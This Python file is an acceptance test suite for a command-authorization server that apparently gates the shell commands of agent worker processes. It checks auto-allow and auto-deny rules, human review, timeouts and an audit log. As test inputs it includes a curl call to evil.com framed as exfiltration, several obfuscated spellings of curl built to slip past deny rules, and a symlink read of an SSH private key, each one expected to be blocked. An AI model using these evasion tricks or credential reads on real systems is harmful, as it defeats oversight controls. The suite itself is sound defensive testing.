#!/usr/bin/env python3
"""The ten acceptance tests of the tool-authorization specification, by number, against the real server with a real
worker process."""

import os
import time

from wire import ServiceTest, WebSocket, Worker, main


class Acceptance(ServiceTest):
    def setUp(self):
        # A program named bun that prints its arguments, so that the test sees what runs.
        tools = self.server.home / "bin"
        tools.mkdir(exist_ok=True)
        for name in ("bun", "curl"):
            (tools / name).write_text(f'#!/bin/sh\necho "{name} ran: $*"\n')
            (tools / name).chmod(0o755)
        self.server.env["PATH"] = f"{tools}:{os.environ['PATH']}"

    def logged(self, command):
        return [d for d in self.server.decisions("limit=1000") if d["command"] == command]

    def test_1_auto_accept_fires(self):
        for over in ("socket", "http"):
            code, out, said = Worker(self.server, "bun test", over=over, worker=f"w-{over}").end()
            self.assertEqual((code, out), (0, "bun ran: test\n"))
            self.assertEqual((said["behavior"], said["decision"]), ("allow", "auto-accept"))
            entries = [d for d in self.logged("bun test") if d["worker_id"] == f"w-{over}"]
            self.assertEqual([d["decision"] for d in entries], ["auto-accept"])

    def test_2_auto_deny_blocks(self):
        code, out, said = Worker(self.server, "curl http://evil.com").end()
        self.assertEqual((code, out), (126, ""))
        self.assertEqual((said["behavior"], said["decision"]), ("deny", "auto-deny"))
        self.assertIn("exfiltration", said["reason"])
        [entry] = self.logged("curl http://evil.com")
        self.assertEqual(entry["decision"], "auto-deny")
        self.assertTrue(entry["matched_rule_id"])

    def test_3_human_review_flow(self):
        temp = self.server.project / "temp"
        temp.mkdir()
        operator = WebSocket(self.server.port, self.server.token("operator"))
        worker = Worker(self.server, "rm -r ./temp")
        event = operator.event(lambda e: e["type"] == "review" and e["review"]["status"] == "pending")
        self.assertTrue(worker.running)
        self.assertTrue(temp.is_dir(), "it ran before it was approved")
        review = event["review"]
        self.assertEqual(self.server.answer(review["id"], "approve").status, 200)
        code, _, said = worker.end()
        self.assertEqual((code, said["decision"]), (0, "human-accept"))
        self.assertFalse(temp.exists())
        [entry] = self.logged("rm -r ./temp")
        self.assertEqual(entry["decision"], "human-accept")
        self.assertLess(entry["review_requested_at"], entry["review_responded_at"])
        operator.close()

    def test_5_approve_and_promote(self):
        worker = Worker(self.server, "make deploy-docs")
        review = self.server.next_review("make deploy-docs")
        answer = self.server.answer(review["id"], "promote")
        self.assertEqual(answer.status, 200, answer.body)
        _, _, said = worker.end()
        self.assertEqual((said["behavior"], said["decision"]), ("allow", "human-accept"))
        rules = self.server.get("/v1/rules")["rules"]
        [rule] = [r for r in rules if "make deploy-docs" in r["pattern"]]
        self.assertEqual((rule["type"], rule["scope"]), ("allow", "p-1"))
        self.assertTrue(rule["id"] and rule["created_at"] and rule["created_by"])
        again = self.server.check("make deploy-docs")
        self.assertEqual((again["behavior"], again["decision"], again["matched_rule_id"]), ("allow", "auto-accept", rule["id"]))
        # Only identical commands in this project.
        self.assertEqual(self.server.check("make deploy-docs; true")["behavior"], "ask")
        self.assertEqual(self.server.check("make deploy-docs", project_id="p-2")["behavior"], "ask")

    def test_6_deny_precedence(self):
        self.server.add_rule("curl localhost*", scope="p-1")
        code, out, said = Worker(self.server, "curl localhost:8080").end()
        self.assertEqual((code, out), (126, ""))
        self.assertEqual((said["behavior"], said["decision"]), ("deny", "auto-deny"))

    def test_7_obfuscation_resistance(self):
        plain = self.server.check("curl http://x.com")
        for command in ("cu\\rl http://x.com", "c''url http://x.com", "\"cu\"rl http://x.com", "$'\\x63url' http://x.com",
                        "/usr/bin/curl http://x.com", "command curl http://x.com", "bash -c 'cu\\rl http://x.com'"):
            code, out, said = Worker(self.server, command).end()
            self.assertEqual((code, out), (126, ""), command)
            self.assertEqual((said["decision"], said["matched_rule_id"]), ("auto-deny", plain["matched_rule_id"]), command)

    def test_8_symlink_resolution(self):
        keys = self.server.home / ".ssh"
        keys.mkdir(exist_ok=True)
        (keys / "id_rsa").write_text("not a key\n")
        link = self.server.root / "link-to-ssh-key"
        link.symlink_to(keys / "id_rsa")
        code, out, said = Worker(self.server, f"cat {link}").end()
        self.assertEqual((code, out, said["decision"]), (126, "", "auto-deny"))
        self.assertIn("SSH", said["reason"])
        # Where the link pointed before does not count.
        link.unlink()
        (self.server.root / "harmless").write_text("hello\n")
        link.symlink_to(self.server.root / "harmless")
        self.assertEqual(Worker(self.server, f"cat {link}").end()[:2], (0, "hello\n"))

    def test_9_rule_hot_reload(self):
        pid = self.server.process.pid
        before = self.server.check("terraform-plan --quick")
        self.assertEqual((before["behavior"], before["status"]), ("ask", "pending"))
        rule = self.server.add_rule("terraform-plan*")
        after = self.server.check("terraform-plan --quick --again")
        self.assertEqual((after["behavior"], after["decision"], after["matched_rule_id"]), ("allow", "auto-accept", rule["id"]))
        self.assertEqual(self.server.process.pid, pid)
        self.assertIsNone(self.server.process.poll())

    def test_10_log_query(self):
        for number in range(3):
            command = f"unknown-tool --run {number}"
            review = self.server.check(command, worker_id=f"w-{number}")["review_id"]
            self.assertEqual(self.server.answer(review, "deny", reason=f"no {number}").status, 200)
        self.server.check("bun test")
        found = self.server.decisions("decision=human-deny&since=24h&limit=1000")
        mine = [d for d in found if d["command"].startswith("unknown-tool --run")]
        self.assertEqual([d["command"] for d in mine], [f"unknown-tool --run {n}" for n in (2, 1, 0)])
        self.assertEqual({d["decision"] for d in found}, {"human-deny"})
        for entry in mine:
            for key in ("id", "timestamp", "worker_id", "task_id", "project_id", "command", "command_redacted", "decision",
                        "review_requested_at", "review_responded_at", "response_time_ms"):
                self.assertIn(key, entry)
            self.assertEqual((entry["task_id"], entry["project_id"]), ("t-1", "p-1"))
        self.assertEqual([d["worker_id"] for d in mine], ["w-2", "w-1", "w-0"])
        self.assertEqual(self.server.decisions("decision=human-deny&until=2001-01-01"), [])


class Timeout(ServiceTest):
    options = ("--review-timeout", "1")

    def test_4_review_timeout(self):
        worker = Worker(self.server, "touch never")
        code, out, said = worker.end()
        self.assertEqual((code, out), (126, ""))
        self.assertEqual((said["behavior"], said["decision"], said["status"]), ("deny", "timeout-deny", "expired"))
        self.assertFalse((self.server.project / "never").exists())
        [entry] = [d for d in self.server.decisions() if d["command"] == "touch never"]
        self.assertEqual(entry["decision"], "timeout-deny")
        # It can no longer be approved.
        self.assertEqual(self.server.answer(said["review_id"], "approve").status, 409)


class DefaultTimeout(ServiceTest):
    def test_4_review_timeout_is_15_minutes_unless_told(self):
        asked = self.server.check("touch never")
        review = self.server.get(f"/v1/reviews/{asked['review_id']}")

        def seconds(stamp):
            return time.mktime(time.strptime(stamp[:19], "%Y-%m-%dT%H:%M:%S"))

        self.assertAlmostEqual(seconds(review["expires_at"]) - seconds(review["requested_at"]), 15 * 60, delta=1)


if __name__ == "__main__":
    main()
